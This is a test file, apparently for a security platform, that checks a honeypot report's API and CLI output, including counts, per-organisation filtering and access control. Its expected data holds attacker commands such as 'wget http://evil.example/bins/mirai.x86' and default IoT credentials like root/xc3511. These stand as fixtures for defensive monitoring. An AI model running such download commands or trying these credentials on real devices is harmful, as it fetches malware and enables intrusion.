/**
 * `report honeypot` (CLI --json and GET /api/v1/honeypot/report) over a hand-written day of
 * Cowrie-, Dionaea-, Conpot- and sensor-like events stored through writeHoneypotEvents: every
 * figure counted by hand; a member of an organisation gets the report of its own
 * constituency's sources only (by prefix and by origin AS), totals included.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempApp, TEST_PASSWORD, type TempApp } from '../../api/testing/temp-app.js';
import { runCli } from '../../../test/helpers/cli.js';
import { createUser } from '../../auth/users.js';
import { createApiKey } from '../../auth/api-keys.js';
import { addAsns, addPrefixes, createOrg } from '../../orgs/org-store.js';
import { writeHoneypotEvents } from '../store/write-events.js';
import { cowrieLikeDay, H1, H2, H3, H4 } from '../testing/cowrie-like-day.js';
import type { HoneypotReport } from '../../api/contract/honeypot.js';
import { defaultHoneypotWindow } from './honeypot-window.js';

let t: TempApp;
let memberA: Record<string, string>;
let memberB: Record<string, string>;
const DAY = 'from=2026-11-01&to=2026-11-02';

beforeAll(async () => {
  t = await tempApp('honeypot-report');
  expect(await writeHoneypotEvents(t.ctx.events, cowrieLikeDay(), { token: 'day-1' })).toBe(28);
  // The same block again (a retried batch): stored once.
  await writeHoneypotEvents(t.ctx.events, cowrieLikeDay(), { token: 'day-1' });
  const a = await createOrg(t.ctx.state, { name: 'Org Alpha', kind: 'isp' });
  const b = await createOrg(t.ctx.state, { name: 'Org Bravo', kind: 'isp' });
  await addPrefixes(t.ctx.state, a.id, ['192.0.2.0/25']);
  await addAsns(t.ctx.state, a.id, ['AS64500']);
  await addPrefixes(t.ctx.state, b.id, ['198.51.100.0/24']);
  await createUser(t.ctx.state, { username: 'alice', password: TEST_PASSWORD, role: 'org-member', org: a.id });
  await createUser(t.ctx.state, { username: 'bob', password: TEST_PASSWORD, role: 'org-member', org: b.id });
  memberA = { authorization: `Bearer ${(await createApiKey(t.ctx.state, 'alice', 't', ['read'])).key}` };
  memberB = { authorization: `Bearer ${(await createApiKey(t.ctx.state, 'bob', 't', ['read'])).key}` };
}, 120_000);
afterAll(async () => { await t.dispose(); });

const report = async (query: string, headers?: Record<string, string>): Promise<HoneypotReport> => {
  const res = await t.inject({ url: `/api/v1/honeypot/report?${query}`, ...(headers ? { headers } : {}) });
  expect(res.statusCode, res.body).toBe(200);
  return res.json<HoneypotReport>();
};

describe('report honeypot', () => {
  it('counts sessions, sources, logins, commands, proxies, downloads and the rest over the window', async () => {
    const r = await report(DAY);
    expect(r).toMatchObject({
      from: '2026-11-01T00:00:00.000Z', to: '2026-11-02T00:00:00.000Z',
      events: 27,
      // a1, b1, a2, h1, and the three events without a session id (one Dionaea offer, two Conpot requests).
      sessions: 7,
      sources: 5,
      logins: { attempts: 5, success: 3, failed: 2 },
      commands: 5, proxyRequests: 1, downloads: 2, uploads: 1, httpRequests: 1, icsInteractions: 2,
      byHoneypot: { cowrie: 23, conpot: 2, dionaea: 1, sakimori: 1 },
      byProto: { ssh: 2, modbus: 2, http: 1, smb: 1, telnet: 1 },
    });
    expect(r.topCredentials).toEqual([
      { username: 'root', password: 'xc3511', attempts: 3, success: 2, sources: 2 },
      { username: 'admin', password: 'admin', attempts: 1, success: 1, sources: 1 },
      { username: 'root', password: 'admin', attempts: 1, success: 0, sources: 1 },
    ]);
    expect(r.topCommands).toEqual([
      { command: 'cat /proc/mounts', count: 2, sources: 1 },
      { command: 'enable', count: 1, sources: 1 },
      { command: 'wget http://198.18.0.5/x.sh', count: 1, sources: 1 },
      { command: 'wget http://evil.example/bins/mirai.x86', count: 1, sources: 1 },
    ]);
    expect(r.clients).toEqual([
      { client: 'Hello, World', sessions: 1 }, { client: 'SSH-2.0-Go', sessions: 1 }, { client: 'SSH-2.0-libssh_0.6.3', sessions: 1 },
    ]);
    expect(r.urls).toEqual([
      { url: 'http://evil.example/bins/mirai.x86', host: 'evil.example', events: 2, sources: 2, sessions: 2, sha256: [H1], firstSeen: '2026-11-01T01:00:07.000Z', lastSeen: '2026-11-01T02:30:00.000Z' },
      { url: 'http://198.18.0.5/x.sh', host: '198.18.0.5', events: 1, sources: 1, sessions: 1, sha256: [H3], firstSeen: '2026-11-01T01:10:05.000Z', lastSeen: '2026-11-01T01:10:05.000Z' },
      { url: 'http://dl.example.net/a.sh', host: 'dl.example.net', events: 1, sources: 1, sessions: 1, sha256: [], firstSeen: '2026-11-01T03:05:00.000Z', lastSeen: '2026-11-01T03:05:00.000Z' },
    ]);
    // The tty log's hash is the honeypot's own recording: not a file an attacker brought.
    expect(r.hashes.map((h) => h.sha256)).toEqual([H1, H2, H3]);
    expect(r.hashes.map((h) => h.sha256)).not.toContain(H4);
    expect(r.hashes[0]).toEqual({ sha256: H1, size: 1000, events: 1, sources: 1, sessions: 1, urls: ['http://evil.example/bins/mirai.x86'], firstSeen: '2026-11-01T01:00:07.000Z', lastSeen: '2026-11-01T01:00:07.000Z' });
    expect(r.hashes[1]).toMatchObject({ sha256: H2, size: 200, urls: [] });
    expect(r.topSources).toEqual([
      { ip: '192.0.2.10', asn: 64500, country: 'JP', sessions: 2, logins: 3, commands: 4 },
      { ip: '203.0.113.99', asn: 64500, country: '', sessions: 2, logins: 0, commands: 0 },
      { ip: '198.51.100.7', asn: 64501, country: 'CN', sessions: 1, logins: 2, commands: 1 },
      { ip: '192.0.2.11', asn: 64500, country: '', sessions: 1, logins: 0, commands: 0 },
      { ip: '198.51.100.8', asn: 64501, country: '', sessions: 1, logins: 0, commands: 0 },
    ]);
    expect(r.hourly).toEqual([
      { hour: '2026-11-01T01:00:00.000Z', sessions: 2, logins: 4, commands: 4, downloads: 2 },
      { hour: '2026-11-01T02:00:00.000Z', sessions: 2, logins: 1, commands: 1, downloads: 0 },
      { hour: '2026-11-01T03:00:00.000Z', sessions: 3, logins: 0, commands: 0, downloads: 0 },
    ]);
  });

  it('defaults to the UTC day of the last event, and an empty window is all zeros', async () => {
    const w = await defaultHoneypotWindow(t.ctx.events, Date.UTC(2026, 11, 7));
    expect(w).toEqual({ from: new Date('2026-11-02T00:00:00Z'), to: new Date('2026-11-03T00:00:00Z') });
    // Seen from 2026-10-31 noon, the next day's login is a clock that jumped ahead: not the default.
    const before = await defaultHoneypotWindow(t.ctx.events, Date.UTC(2026, 9, 31, 12));
    expect(before.from.toISOString()).toBe('2026-11-01T00:00:00.000Z');
    const next = await report('');
    expect(next).toMatchObject({ from: '2026-11-02T00:00:00.000Z', events: 1, sessions: 1, logins: { attempts: 1, success: 0, failed: 1 } });
    const empty = await report('from=2026-10-01&to=2026-10-02');
    expect(empty).toMatchObject({ events: 0, sessions: 0, sources: 0, logins: { attempts: 0, success: 0, failed: 0 }, topCredentials: [], urls: [], hashes: [], hourly: [], byHoneypot: {} });
    const bad = await t.inject('/api/v1/honeypot/report?from=yesterday');
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ code: string }>().code).toBe('BAD_TIME');
  });

  it('gives a member the report of its constituency\'s sources only, totals included', async () => {
    // A: 192.0.2.0/25 and AS64500 (which also holds 203.0.113.99).
    const a = await report(DAY, memberA);
    expect(a).toMatchObject({
      events: 18, sessions: 5, sources: 3, logins: { attempts: 3, success: 2, failed: 1 }, commands: 4, proxyRequests: 0,
      downloads: 1, uploads: 1, httpRequests: 1, icsInteractions: 2, byHoneypot: { cowrie: 15, conpot: 2, sakimori: 1 },
    });
    expect(a.topCredentials).toEqual([
      { username: 'root', password: 'xc3511', attempts: 2, success: 2, sources: 1 },
      { username: 'root', password: 'admin', attempts: 1, success: 0, sources: 1 },
    ]);
    expect(a.urls.map((u) => [u.url, u.events, u.sources])).toEqual([['http://dl.example.net/a.sh', 1, 1], ['http://evil.example/bins/mirai.x86', 1, 1]]);
    expect(a.hashes.map((h) => h.sha256)).toEqual([H1, H2]);
    const text = JSON.stringify(a);
    for (const foreign of ['198.51.100.', '198.18.0.5', 'SSH-2.0-Go', 'admin/admin', 'mail.example.org', H3]) expect(text).not.toContain(foreign);
    // B: only its two sources; none of A's, nor the AS-held one.
    const b = await report(DAY, memberB);
    expect(b).toMatchObject({ events: 9, sessions: 2, sources: 2, logins: { attempts: 2, success: 1, failed: 1 }, proxyRequests: 1, downloads: 1, icsInteractions: 0 });
    expect(b.topSources.map((s) => s.ip)).toEqual(['198.51.100.7', '198.51.100.8']);
    expect(b.urls.map((u) => [u.url, u.events])).toEqual([['http://198.18.0.5/x.sh', 1], ['http://evil.example/bins/mirai.x86', 1]]);
    expect(JSON.stringify(b)).not.toMatch(/192\.0\.2\.|203\.0\.113\.99|xc3511", "attempts": 3/);
    // Nobody is anonymous.
    expect((await t.app.inject({ url: `/api/v1/honeypot/report?${DAY}` })).statusCode).toBe(401);
  });

  it('prints the same contract from the CLI, as JSON and as a readable summary', async () => {
    const api = await report(DAY);
    await t.app.close();
    await t.ctx.close();
    const r = await runCli(['--data', t.dir, 'report', 'honeypot', '--from', '2026-11-01', '--to', '2026-11-02', '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual(api);
    const human = await runCli(['--data', t.dir, 'report', 'honeypot', '--from', '2026-11-01']);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toMatch(/^Honeypot report 2026-11-01T00:00:00.000Z – 2026-11-02T00:00:00.000Z\n/);
    expect(human.stdout).toMatch(/events 27 {3}sessions 7 {3}sources 5/);
    expect(human.stdout).toMatch(/logins 5 \(3 accepted, 2 refused\) {3}commands 5 {3}proxy requests 1/);
    expect(human.stdout).toMatch(/root \/ xc3511 +3 +2 +2/);
    expect(human.stdout).toMatch(/2 +1 {2}cat \/proc\/mounts/);
    expect(human.stdout).toMatch(/2 +2 {2}http:\/\/evil\.example\/bins\/mirai\.x86/);
    expect(human.stdout).toContain(`${H1}      1,000`);
  }, 120_000);
});
